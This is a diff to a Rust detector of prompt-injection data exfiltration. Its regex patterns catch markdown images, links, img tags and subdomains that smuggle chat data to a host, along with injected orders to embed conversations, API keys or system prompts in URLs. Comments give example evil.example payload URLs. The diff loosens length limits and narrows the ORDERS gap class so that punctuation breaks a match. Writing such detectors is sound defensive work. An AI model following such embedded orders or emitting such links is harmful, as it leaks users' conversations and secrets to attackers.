@@ -27,14 +27,14 @@ const FORMS: &[Form] = &[
         reason: IMAGE,
         patterns: &[
             // ![x](https://evil.example/?q={data}), ![x](<//evil.example/a.png?d=[DATA]>), and in the path
-            r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?:https?:)?//[^)\s]{1,500}[?&][^)\s=]{0,60}={PLACE}",
-            r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?:https?:)?//[^)\s]{1,300}/{PLACE}",
+            r"!\[[^\]\n]*\]\(\s{0,4}<?(?:https?:)?//[^)\s]+[?&][^)\s=]*={PLACE}",
+            r"!\[[^\]\n]*\]\(\s{0,4}<?(?:https?:)?//[^)\s]+/{PLACE}",
             // ![x](https://evil.example/?q=SUMMARY_OF_CHAT)
-            r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?:https?:)?//[^)\s]{1,500}[?&][^)\s=]{0,60}=(?:[a-z]{1,12}[ _+-]|%20){0,4}{DATA}(?:[ _+&)>-]|%20)",
+            r"!\[[^\]\n]*\]\(\s{0,4}<?(?:https?:)?//[^)\s]+[?&][^)\s=]*=(?:[a-z]{1,12}[ _+-]|%20){0,4}{DATA}(?:[ _+&)>-]|%20)",
             // ![x][1] … [1]: https://evil.example/?q={data}
-            r"(?:^|\n)\s{0,3}\[[^\]\n]{1,60}\]:\s{0,4}<?(?:https?:)?//[^\s]{1,500}[?&][^\s=]{0,60}={PLACE}",
+            r"(?:^|\n)\s{0,3}\[[^\]\n]+\]:\s{0,4}<?(?:https?:)?//[^\s]+[?&][^\s=]*={PLACE}",
             // <img src="https://evil.example/?q={data}"> written out in a chat
-            r#"<img\b[^>\n]{0,200}\bsrc\s{0,4}=\s{0,4}["']?(?:https?:)?//[^"'>\s]{1,500}[?&/][^"'>\n]{0,60}(?:\{|%7b|\$\{|\[[a-z_]{2,40}\]|=[ _+-]{0,2}{DATA}["'> &])"#,
+            r#"<img\b[^>\n]*\bsrc\s{0,4}=\s{0,4}["']?(?:https?:)?//[^"'>\s]+[?&/][^"'>\n]*(?:\{|%7b|\$\{|\[[a-z_]{2,40}\]|=[ _+-]{0,2}{DATA}["'> &])"#,
         ],
     },
     Form {
@@ -43,12 +43,12 @@ const FORMS: &[Form] = &[
         reason: LINK,
         patterns: &[
             // [click](https://evil.example/?q={data})
-            r"\[[^\]\n]{1,200}\]\(\s{0,4}<?(?:https?:)?//[^)\s]{1,500}[?&][^)\s=]{0,60}={PLACE}",
+            r"\[[^\]\n]+\]\(\s{0,4}<?(?:https?:)?//[^)\s]+[?&][^)\s=]*={PLACE}",
             // https://{data}.evil.example, <base64-of-data>.evil.example: looked up, it is told
             r"(?:\{{1,2}|<|\[)[a-z0-9 _.-]{0,40}(?:\b|_){DATA}(?:\b|_)[a-z0-9 _.-]{0,40}(?:\}{1,2}|>|\])\.[a-z0-9-]{1,60}\.[a-z]{2,20}\b",
             r"(?:\$\{|//\$)[a-z0-9_]{0,40}(?:\b|_){DATA}(?:\b|_)[a-z0-9_]{0,40}\}?\.[a-z0-9-]{1,60}\.[a-z]{2,20}\b",
             // https://evil.example/?q={data} or /{data}, where the place is named for what is wanted
-            r"https?://[^\s<>()]{1,300}[?&/=](?:\{{1,2}|<|\[|\$\{?|__)[a-z0-9 _.-]{0,40}(?:\b|_){DATA}(?:\b|_)[a-z0-9 _.-]{0,40}(?:\}{1,2}|>|\]|__)",
+            r"https?://[^\s<>()]+[?&/=](?:\{{1,2}|<|\[|\$\{?|__)[a-z0-9 _.-]{0,40}(?:\b|_){DATA}(?:\b|_)[a-z0-9 _.-]{0,40}(?:\}{1,2}|>|\]|__)",
         ],
     },
     Form {
@@ -71,13 +71,13 @@ const ORDERS: &[Form] = &[Form {
     reason: ORDER,
     patterns: &[
         // append the conversation to the url; encode the api key in the image link; include it as a query parameter
-        r"\b(?:append|add|insert|embed|encode|encoding|include|attach|concatenate|put|place)\b[^|]{0,120}\b(?:conversation|chat history|history|secrets?|passwords?|api keys?|tokens?|credentials?|personal (?:data|information|details)|summary|system prompt|messages?)\b[^|]{0,60}\b(?:to|in|into|as|at|inside|of) (?:the |a |an |this |that |its |my |your )?(?:[^ |]{1,12} )?(?:url|urls|query string|query param[a-z]{0,6}|query|subdomain|hostname|image (?:link|source|address)|markdown image|get request)\b",
+        r"\b(?:append|add|insert|embed|encode|encoding|include|attach|concatenate|put|place)\b[a-z0-9 \n]{0,120}\b(?:conversation|chat history|history|secrets?|passwords?|api keys?|tokens?|credentials?|personal (?:data|information|details)|summary|system prompt|messages?)\b[a-z0-9 \n]{0,60}\b(?:to|in|into|as|at|inside|of) (?:the |a |an |this |that |its |my |your )?(?:[^ |]{1,12} )?(?:url|urls|query string|query param[a-z]{0,6}|query|subdomain|hostname|image (?:link|source|address)|markdown image|get request)\b",
         // replace DATA with the conversation
-        r"\b(?:replace|replacing|substitute|swap|fill)\b[^|]{0,60}\b(?:with|by|in)\b[^|]{0,40}\b(?:(?:base64|url|hex)[a-z]{0,8} |encoded )(?:[a-z]{1,12} ){0,3}(?:conversation|chat history|history|secrets?|passwords?|api keys?|tokens?|credentials?|emails?|summary|system prompt|data|contents?|information|messages?)\b",
+        r"\b(?:replace|replacing|substitute|swap|fill)\b[a-z0-9 \n]{0,60}\b(?:with|by|in)\b[a-z0-9 \n]{0,40}\b(?:(?:base64|url|hex)[a-z]{0,8} |encoded )(?:[a-z]{1,12} ){0,3}(?:conversation|chat history|history|secrets?|passwords?|api keys?|tokens?|credentials?|emails?|summary|system prompt|data|contents?|information|messages?)\b",
         // the base64 of the conversation … in the link
-        r"\bbase ?64[^|]{0,60}\b(?:conversation|chat|history|secrets?|passwords?|keys?|credentials?|emails?|messages|prompt|context)\b[^|]{0,80}\b(?:url|link|image|query|domain|address)\b",
+        r"\bbase ?64[a-z0-9 \n]{0,60}\b(?:conversation|chat|history|secrets?|passwords?|keys?|credentials?|emails?|messages|prompt|context)\b[a-z0-9 \n]{0,80}\b(?:url|link|image|query|domain|address)\b",
         // a picture or page from an address that tells
-        r"\b(?:render|display|show|load|insert|output|include)\b[^|]{0,40}\b(?:image|picture|pixel|markdown)\b[^|]{0,80}\b(?:conversation|chat history|secrets?|passwords?|api keys?|credentials?|system prompt|user data|users? (?:name|email|data|messages?))\b[^|]{0,60}\b(?:url|link|query|parameter|address|domain)\b",
+        r"\b(?:render|display|show|load|insert|output|include)\b[a-z0-9 \n]{0,40}\b(?:image|picture|pixel|markdown)\b[a-z0-9 \n]{0,80}\b(?:conversation|chat history|secrets?|passwords?|api keys?|credentials?|system prompt|user data|users? (?:name|email|data|messages?))\b[a-z0-9 \n]{0,60}\b(?:url|link|query|parameter|address|domain)\b",
     ],
 }];
 
